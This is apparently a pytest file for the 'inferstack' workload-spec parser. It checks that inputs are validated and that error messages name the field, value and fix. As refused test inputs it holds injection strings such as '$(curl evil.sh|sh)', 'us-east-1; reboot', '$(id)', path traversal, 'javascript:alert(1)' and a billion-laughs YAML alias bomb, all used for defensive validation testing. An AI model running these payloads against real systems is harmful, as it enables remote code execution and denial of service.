"""Workload specs: valid files load; bad input names the field, the value and the fix."""

import csv
import json
import re
import subprocess
import sys
import time
from pathlib import Path

import pytest

from inferstack.documents import MAX_INPUT_BYTES
from inferstack.errors import InputError
from inferstack.sizing.catalog import CATALOG_REGIONS
from inferstack.sizing.hardware import gpu_specs
from inferstack.sizing.models import registry, resolve
from inferstack.spec import (
    MODEL_NAME_PATTERN,
    REGION_PATTERN,
    SOURCE_URI_PATTERN,
    Precision,
    load_workload,
    parse_workload,
)

WORKLOADS = Path(__file__).resolve().parents[1] / "examples" / "workloads"
DATA = Path(__file__).resolve().parents[1] / "inferstack" / "sizing" / "data"
MINIMAL = {"model": "llama-3.1-8b", "traffic": {"requests_per_s": 2}}
LLAMA_1B_CONFIG = {
    "model_type": "llama",
    "hidden_size": 2048,
    "num_hidden_layers": 16,
    "num_attention_heads": 32,
    "num_key_value_heads": 8,
    "intermediate_size": 8192,
    "vocab_size": 128256,
}


@pytest.mark.parametrize("path", sorted(WORKLOADS.glob("*.yaml")), ids=lambda p: p.name)
def test_every_sample_workload_loads_and_names_a_known_model(path):
    spec = load_workload(path)
    assert resolve(spec.model).params > 0


def test_negative_request_rate_names_field_value_and_fix():
    with pytest.raises(InputError) as error:
        parse_workload({**MINIMAL, "traffic": {"requests_per_s": -3}})
    message = str(error.value)
    assert "traffic.requests_per_s" in message and "-3" in message and "Fix:" in message


def test_unknown_field_is_reported_with_its_path():
    with pytest.raises(InputError, match=r"slo\.ttft_ms: is not a known field"):
        parse_workload({**MINIMAL, "slo": {"ttft_ms": 500}})


def test_precision_accepts_common_spellings():
    assert parse_workload({**MINIMAL, "precision": "Q4_K_M"}).precision is Precision.Q4_K_M
    assert parse_workload({**MINIMAL, "precision": "int4"}).precision is Precision.INT4_AWQ
    assert parse_workload({**MINIMAL, "precision": "bfloat16"}).precision is Precision.BF16


def test_unknown_precision_lists_the_valid_ones():
    with pytest.raises(InputError, match=r"precision: 'fp12' is not a precision: use one of .*fp16.*, auto, or a list"):
        parse_workload({**MINIMAL, "precision": "fp12"})


def test_interactive_workload_needs_a_load():
    with pytest.raises(InputError, match="requests_per_s or concurrent_users"):
        parse_workload({"model": "llama-3.1-8b", "traffic": {"prompt_tokens": 100}})


def test_p95_below_mean_is_rejected():
    with pytest.raises(InputError, match="p95"):
        parse_workload({**MINIMAL, "traffic": {"requests_per_s": 1, "prompt_tokens": {"mean": 500, "p95": 100}}})


def test_unknown_model_suggests_close_names():
    spec = parse_workload({**MINIMAL, "model": "llama-3.1-8"})
    with pytest.raises(InputError, match=r"model: is not a built-in model \(got 'llama-3.1-8'\). Fix: did you mean"):
        resolve(spec.model)


def test_model_config_path_is_resolved_against_the_workload_file(tmp_path):
    (tmp_path / "config.json").write_text(
        '{"model_type": "llama", "hidden_size": 2048, "num_hidden_layers": 16, '
        '"num_attention_heads": 32, "num_key_value_heads": 8, '
        '"intermediate_size": 8192, "vocab_size": 128256}'
    )
    (tmp_path / "w.yaml").write_text("model: {config: config.json, name: my-1b}\ntraffic: {requests_per_s: 1}\n")
    model = resolve(load_workload(tmp_path / "w.yaml").model)
    assert model.name == "my-1b" and model.kind == "llm" and 1.0e9 < model.params < 1.6e9


def test_model_given_twice_is_rejected():
    with pytest.raises(InputError, match="exactly one of"):
        parse_workload({**MINIMAL, "model": {"registry": "bert-base", "config": "x.json"}})


def test_yaml_syntax_error_is_reported_without_a_traceback(tmp_path):
    bad = tmp_path / "bad.yaml"
    bad.write_text("model: [unclosed\n")
    with pytest.raises(InputError, match="cannot be parsed"):
        load_workload(bad)


# In a fresh interpreter: this one has imported yaml already.
_IMPORT_YAML_THEN_READ = r"""
import re, sys
from inferstack.documents import _YAML_NON_PRINTABLE, import_yaml
yaml = import_yaml()
deferred = type(yaml.reader.Reader.NON_PRINTABLE).__name__ == "_PatternOnFirstUse"
left_in_cache = any(type(p).__name__ == "_PatternOnFirstUse" for p in getattr(re, "_cache", {}).values())
compiled_later = isinstance(re.compile(_YAML_NON_PRINTABLE), re.Pattern)
try:
    yaml.load("a: b\x07", Loader=yaml.SafeLoader)  # the pure-Python reader, which uses the pattern
    refused = False
except yaml.reader.ReaderError as error:
    refused = "#x0007" in str(error)
import copy
copied = copy.copy(yaml.reader.Reader.NON_PRINTABLE).search("a\x07b").start() == 1
print(deferred, left_in_cache, compiled_later, refused, yaml.safe_load("a: [1, é]") == {"a": [1, "é"]}, copied)
"""


def test_yaml_is_imported_with_its_unprintable_character_pattern_compiled_on_first_use():
    """import_yaml defers that one pattern, leaves re's cache as it was, and the pure-Python reader still refuses an
    unprintable character."""
    done = subprocess.run([sys.executable, "-c", _IMPORT_YAML_THEN_READ], capture_output=True, text=True, check=True)
    assert done.stdout.split() == ["True", "False", "True", "True", "True", "True"]


# ---- values that reach a shell, a unit file, a URL or a path ------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "../../../../srv/victim",
        "$(curl evil.sh|sh)",
        "a/b",
        "My-Model",
        "llama 3",
        "model\n",
        "-flag",
        ".hidden",
        "x" * 65,
    ],
)
def test_model_name_with_a_path_shell_or_odd_characters_is_refused(name):
    with pytest.raises(InputError) as error:
        parse_workload({**MINIMAL, "model": {"registry": "llama-3.1-8b", "name": name}})
    [problem] = error.value.problems
    assert problem.field == "model.name" and problem.value == name
    assert "lowercase letters, digits" in problem.fix


@pytest.mark.parametrize("name", ["llama-3.1-8b", "qwen2.5-7b-instruct", "my_model.v2", "a"])
def test_model_name_of_lowercase_letters_digits_dots_and_dashes_is_accepted(name):
    spec = parse_workload({**MINIMAL, "model": {"registry": "llama-3.1-8b", "name": name}})
    assert spec.model_name == name


def test_a_built_in_model_name_with_shell_characters_is_refused_before_lookup():
    with pytest.raises(InputError) as error:
        parse_workload({**MINIMAL, "model": "$(curl evil.sh|sh)"})
    [problem] = error.value.problems
    assert problem.field == "model" and problem.value == "$(curl evil.sh|sh)"


def test_a_built_in_model_name_is_looked_up_in_any_case():
    assert parse_workload({**MINIMAL, "model": " Llama-3.1-8B "}).model == "llama-3.1-8b"


def test_every_registry_model_name_matches_the_model_name_pattern():
    names = list(registry())
    assert len(names) > 10
    assert [n for n in names if not re.fullmatch(MODEL_NAME_PATTERN, n)] == []


def test_a_model_named_after_its_config_folder_must_have_a_valid_name(tmp_path):
    (tmp_path / "My Models").mkdir()
    (tmp_path / "My Models" / "config.json").write_text(json.dumps(LLAMA_1B_CONFIG))
    (tmp_path / "w.yaml").write_text("model: {config: My Models/config.json}\ntraffic: {requests_per_s: 1}\n")
    with pytest.raises(InputError) as error:
        load_workload(tmp_path / "w.yaml")
    [problem] = error.value.problems
    assert "'My Models'" in problem.message and "give model.name" in problem.message


def test_a_model_given_by_config_is_named_after_its_folder_in_the_spec_and_the_plan(tmp_path):
    (tmp_path / "qwen-1b").mkdir()
    (tmp_path / "qwen-1b" / "config.json").write_text(json.dumps(LLAMA_1B_CONFIG))
    (tmp_path / "w.yaml").write_text("model: {config: qwen-1b/config.json}\ntraffic: {requests_per_s: 1}\n")
    spec = load_workload(tmp_path / "w.yaml")
    assert spec.model_name == resolve(spec.model).name == "qwen-1b"


def test_a_config_path_with_a_control_character_or_another_suffix_is_refused():
    for config in ("models/a\x00b/config.json", "models/config.yaml"):
        with pytest.raises(InputError, match=r"model\.config: must be the path of a \.json file"):
            parse_workload({**MINIMAL, "model": {"config": config, "name": "m"}})


def catalog_regions() -> list[tuple[str, str]]:
    found = {(cloud, region) for cloud, region in CATALOG_REGIONS.items()}
    for table in ("instances.csv", "prices.csv"):
        with (DATA / table).open(newline="", encoding="utf-8") as f:
            found |= {(row["cloud"], row["region"]) for row in csv.DictReader(f)}
    return sorted(found)


def test_the_catalogs_price_regions_of_all_four_clouds():
    assert {cloud for cloud, _ in catalog_regions()} == {"aws", "gcp", "alibaba", "huawei"}


@pytest.mark.parametrize(
    ("cloud", "region"),
    [
        *catalog_regions(),
        # the longest shapes each cloud uses
        ("aws", "us-gov-west-1"),
        ("aws", "ap-southeast-5"),
        ("gcp", "northamerica-northeast1"),
        ("gcp", "europe-west10"),
        ("alibaba", "cn-wulanchabu"),
        ("huawei", "cn-southwest-2"),
    ],
)
def test_region_pattern_admits_every_region_the_catalogs_use(cloud, region):
    assert re.fullmatch(REGION_PATTERN, region)
    spec = parse_workload({**MINIMAL, "placement": {"regions": {cloud: [region]}}})
    assert spec.placement.regions[cloud] == [region]


@pytest.mark.parametrize("region", ["us-east-1\n", "us-east-1; reboot", "US-EAST-1", "../x", "us", "us_east_1", ""])
def test_a_region_that_is_no_region_name_is_refused(region):
    with pytest.raises(InputError) as error:
        parse_workload({**MINIMAL, "placement": {"regions": {"aws": [region]}}})
    [problem] = error.value.problems
    assert problem.field == "placement.regions.aws.0" and problem.value == region


def test_source_uri_takes_a_repo_id_or_a_url_and_refuses_quotes_spaces_and_substitutions():
    for accepted in ("meta-llama/Llama-3.1-8B-Instruct", "https://huggingface.co/Qwen/Qwen3-32B", "s3://bucket/m/"):
        assert parse_workload({**MINIMAL, "model": {"registry": "bert-base", "source_uri": accepted}})
    for refused in ("'$(id)'", "org/model name", "org/a/b\n", "javascript:alert(1)", 'x"y'):
        with pytest.raises(InputError, match=r"model\.source_uri"):
            parse_workload({**MINIMAL, "model": {"registry": "bert-base", "source_uri": refused}})


def test_every_registry_source_uri_is_a_valid_source_uri():
    uris = [e["source_uri"] for e in registry().values() if e.get("source_uri")]
    assert uris and [u for u in uris if not re.fullmatch(SOURCE_URI_PATTERN, u)] == []


def test_gpu_names_take_every_catalog_accelerator_and_refuse_shell_characters():
    with (DATA / "instances.csv").open(newline="", encoding="utf-8") as f:
        names = {row["gpu_model"] for row in csv.DictReader(f) if row["gpu_model"]} | set(gpu_specs())
    assert parse_workload({**MINIMAL, "placement": {"gpus_allow": sorted(names)}})
    with pytest.raises(InputError, match=r"placement\.gpus_deny\.0"):
        parse_workload({**MINIMAL, "placement": {"gpus_deny": ["L4;reboot"]}})


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("requests_per_s", float("inf")),
        ("requests_per_s", float("nan")),
        ("concurrent_users", 10**30),
        ("prompt_tokens", 10**12),
        ("peak_factor", 1e300),
    ],
)
def test_infinite_nan_and_absurd_numbers_are_refused(field, value):
    with pytest.raises(InputError) as error:
        parse_workload({**MINIMAL, "traffic": {"requests_per_s": 1, field: value}})
    assert error.value.problems[0].field.startswith(f"traffic.{field}")


# ---- errors: the fix belongs to the field that failed, the value is shown cut --------------------------------


def test_a_bad_workload_name_quotes_the_workload_names_rule_not_the_model_names():
    with pytest.raises(InputError) as error:
        parse_workload({**MINIMAL, "name": "Bad Name"})
    [problem] = error.value.problems
    assert problem.field == "name" and "names the cloud resources" in problem.fix


def test_each_field_gets_the_fix_of_its_own_model():
    with pytest.raises(InputError) as error:
        parse_workload({**MINIMAL, "model": {"registry": "bert-base", "name": "A B"}, "placement": {"currency": "usd"}})
    fixes = {p.field: p.fix for p in error.value.problems}
    assert "model bucket" in fixes["model.name"] and "ISO 4217" in fixes["placement.currency"]


def test_a_long_value_is_shown_as_its_start_and_its_length():
    value = "x" * 10_000
    with pytest.raises(InputError) as error:
        parse_workload({**MINIMAL, "name": value})
    message = str(error.value)
    assert f"(got '{'x' * 80}'… (10000 characters))" in message and len(message) < 600


def test_an_unknown_key_with_a_newline_is_shown_quoted_on_one_line():
    with pytest.raises(InputError) as error:
        parse_workload({**MINIMAL, "x\n  - name: fine": 1})
    assert str(error.value).count("\n") == 1 and "'x\\n  - name: fine': is not a known field" in str(error.value)


# ---- files and documents: bounded, never a traceback ------------------------------------------------------------


def alias_bomb(levels: int = 9) -> str:
    """The "billion laughs": each level lists the previous one nine times; ~400 bytes expand to 9**levels."""
    lines = ['l0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]" for i in range(1, levels)]
    return "\n".join([*lines, f"model: *l{levels - 1}", "traffic: {requests_per_s: 1}"]) + "\n"


def test_a_yaml_alias_bomb_is_refused_at_once(tmp_path):
    (tmp_path / "bomb.yaml").write_text(alias_bomb())
    started = time.perf_counter()
    with pytest.raises(InputError, match="expands to more than 10000 values"):
        load_workload(tmp_path / "bomb.yaml")
    assert time.perf_counter() - started < 2


def test_a_few_yaml_aliases_still_work(tmp_path):
    (tmp_path / "w.yaml").write_text(
        "model: llama-3.1-8b\ntraffic: {requests_per_s: 1, prompt_tokens: &n 300, output_tokens: *n}\n"
    )
    assert load_workload(tmp_path / "w.yaml").traffic.output_tokens.mean == 300


def test_a_yaml_alias_inside_its_own_anchor_is_refused(tmp_path):
    (tmp_path / "w.yaml").write_text("model: &m [*m]\ntraffic: {requests_per_s: 1}\n")
    with pytest.raises(InputError, match="contains itself"):
        load_workload(tmp_path / "w.yaml")


@pytest.mark.parametrize(("suffix", "depth"), [(".json", 100_000), (".json", 40), (".yaml", 500)])
def test_deep_nesting_is_refused_without_a_recursion_error(tmp_path, suffix, depth):
    path = tmp_path / f"w{suffix}"
    path.write_text('{"model": ' + "[" * depth + "]" * depth + ', "traffic": {"requests_per_s": 1}}')
    with pytest.raises(InputError, match="nests deeper than 32 levels"):
        load_workload(path)


def test_a_file_that_is_not_utf8_is_refused_with_the_offending_byte(tmp_path):
    (tmp_path / "w.yaml").write_bytes(b"model: llama-3.1-8b\nname: caf\xe9\n")
    with pytest.raises(InputError, match=r"WORKLOAD: is not UTF-8 text \(byte 0xe9 at offset 29\)"):
        load_workload(tmp_path / "w.yaml")


def test_a_file_larger_than_the_bound_is_refused_unread(tmp_path):
    (tmp_path / "w.yaml").write_text("# " + "x" * MAX_INPUT_BYTES)
    with pytest.raises(InputError, match="is larger than 1024 KiB"):
        load_workload(tmp_path / "w.yaml")


def test_a_directory_a_missing_file_and_an_unreadable_file_each_say_so(tmp_path, monkeypatch):
    with pytest.raises(InputError, match="WORKLOAD: is a directory"):
        load_workload(tmp_path)
    with pytest.raises(InputError, match="WORKLOAD: file not found"):
        load_workload(tmp_path / "missing.yaml")
    (tmp_path / "w.yaml").write_text("model: llama-3.1-8b\n")

    def refuse(*args, **kwargs):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(Path, "open", refuse)  # root reads any file, so the test cannot chmod it away
    with pytest.raises(InputError, match="WORKLOAD: cannot be read: permission denied"):
        load_workload(tmp_path / "w.yaml")


def test_a_key_that_is_not_text_is_an_unknown_field_with_a_fix():
    with pytest.raises(InputError) as error:
        parse_workload({**MINIMAL, None: 1})
    [problem] = error.value.problems
    assert (problem.field, problem.message) == ("None", "is not a known field") and problem.fix
